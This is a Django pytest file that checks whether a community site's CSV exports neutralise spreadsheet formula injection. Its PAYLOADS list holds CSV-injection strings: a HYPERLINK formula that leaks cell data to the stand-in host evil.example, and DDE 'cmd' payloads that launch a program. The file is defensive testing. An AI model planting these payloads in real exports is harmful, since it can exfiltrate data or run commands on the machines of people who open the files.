"""Every CSV the site writes is safe to open in a spreadsheet.

The CSV endpoints are found from the URL patterns (a route ending in `.csv`), so a
new one fails `test_every_csv_endpoint_is_exercised` until a scenario below feeds
it the payloads. Each scenario stores text starting with `=`, `+`, `-`, `@`, a tab
or a carriage return where people can type it, downloads the CSV, and checks that
no cell starts a formula and that every payload came back prefixed with `'`.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from charity.models import Donation, Expenditure
from communities.csv_export import FORMULA_STARTS, safe_cell
from governance.certificates.models import CertificateRequest, CertificateType
from tests.charity.factories import DonationFactory, PublicProjectFactory
from tests.factories import CommunityFactory, RoleGrantFactory
from tests.support.actors import give_totp
from tests.volunteers.records.helpers import served, team_shift

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_routes(patterns=None, prefix="", namespace=""):
    """(URL name, route) of every pattern whose route ends in `.csv`."""
    found = []
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            inner = pattern.namespace or ""
            space = (
                f"{namespace}:{inner}" if namespace and inner else namespace or inner
            )
            found += _csv_routes(pattern.url_patterns, route, space)
        elif isinstance(pattern, URLPattern) and route.rstrip("$").endswith(".csv"):
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            found.append((name, route))
    return found


def _rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def charity_ledger(client):
    project = PublicProjectFactory()
    for name in PAYLOADS:
        DonationFactory(
            project=project,
            donor_name=name,
            show_name=True,
            status=Donation.Status.CONFIRMED,
            confirmed_at=timezone.now(),
            receipt_number=name[:40],  # the column holds 40 characters
        )
    for text in PAYLOADS:
        Expenditure.objects.create(
            project=project,
            spent_on=timezone.localdate(),
            amount=Decimal("1.00"),
            purpose=text,
            payee="某某有限公司",
            receipt="charity/receipts/r.pdf",
        )
    url = reverse("charity:ledger-csv", args=[project.community.slug, project.pk])
    return [_rows(client.get(url))]


def volunteer_records(client):
    shift = team_shift(starts_at=timezone.now() - datetime.timedelta(days=1))
    shift.activity.title = PAYLOADS[0]
    shift.activity.save()
    for name in PAYLOADS:
        record = served(shift)
        record.volunteer.display_name = name
        record.volunteer.save()
    community = shift.activity.community
    grant = RoleGrantFactory(role="committee", community=community)
    client.force_login(give_totp(grant.user))
    url = reverse("volunteers:records-export", args=[community.slug])
    return [_rows(client.get(url)), _rows(client.get(url, {"kind": "totals"}))]


def _certificate_requests():
    community = CommunityFactory()
    kind = CertificateType.objects.create(
        district=community.street.parent,
        name="居住证明",
        legal_basis="b",
        purpose="p",
        procedure="p",
        evidence="e",
        template="{name}",
    )
    for text in PAYLOADS:
        CertificateRequest.objects.create(
            community=community,
            certificate_type=kind,
            person_name="王小明",
            purpose=text,
            due_on=timezone.localdate(),
            status="refused",
            refusal_reason=text,
        )
    return community


def certificate_register(client):
    community = _certificate_requests()
    grant = RoleGrantFactory(role="committee", community=community)
    client.force_login(give_totp(grant.user))
    url = reverse("governance:certificate-register-csv", args=[community.slug])
    return [_rows(client.get(url))]


def region_certificate_register(client):
    community = _certificate_requests()
    district = community.street.parent
    grant = RoleGrantFactory(role="district_officer", community=None, region=district)
    client.force_login(give_totp(grant.user))
    url = reverse("governance:region-certificates-csv", args=[district.slug])
    return [_rows(client.get(url))]


SCENARIOS = {
    "charity:ledger-csv": charity_ledger,
    "volunteers:records-export": volunteer_records,
    "governance:certificate-register-csv": certificate_register,
    "governance:region-certificates-csv": region_certificate_register,
}


def test_every_csv_endpoint_is_exercised():
    names = {name for name, _route in _csv_routes()}
    assert names, "no CSV route found: has the discovery broken?"
    assert names <= set(SCENARIOS), (
        f"CSV routes without a scenario: {names - set(SCENARIOS)}"
    )


@pytest.mark.parametrize("name", sorted(SCENARIOS))
def test_no_cell_of_a_csv_starts_a_formula(client, name):
    tables = SCENARIOS[name](client)
    for rows in tables:
        cells = [cell for row in rows for cell in row]
        starting = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert starting == [], f"{name}: cells a spreadsheet would run: {starting}"
        for payload in PAYLOADS:
            # Names are stored stripped, so a leading tab may be gone.
            assert {"'" + payload, "'" + payload.strip()} & set(cells), (
                f"{name}: {payload!r} did not come back neutralised"
            )


def test_numbers_written_as_numbers_stay_numbers_and_typed_text_does_not():
    assert safe_cell(Decimal("-5.00")) == Decimal("-5.00")
    assert safe_cell(-3) == -3
    assert safe_cell("-5.00") == "'-5.00"
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\t@x") == "'\t@x"
    assert safe_cell("王小明") == "王小明"
    assert safe_cell(None) == ""


def test_no_module_writes_csv_around_the_safe_writer():
    """A CSV written with the csv module directly would skip the neutralising."""
    root = Path(settings.BASE_DIR)
    skipped = {"tests", "node_modules", "var", "static", "media", "locale", "docs"}
    offenders = []
    for path in root.rglob("*.py"):
        parts = path.relative_to(root).parts
        if parts[0] in skipped or parts[0].startswith("."):
            continue
        if path == root / "communities" / "csv_export.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(root)))
    assert offenders == [], f"use communities.csv_export instead: {offenders}"
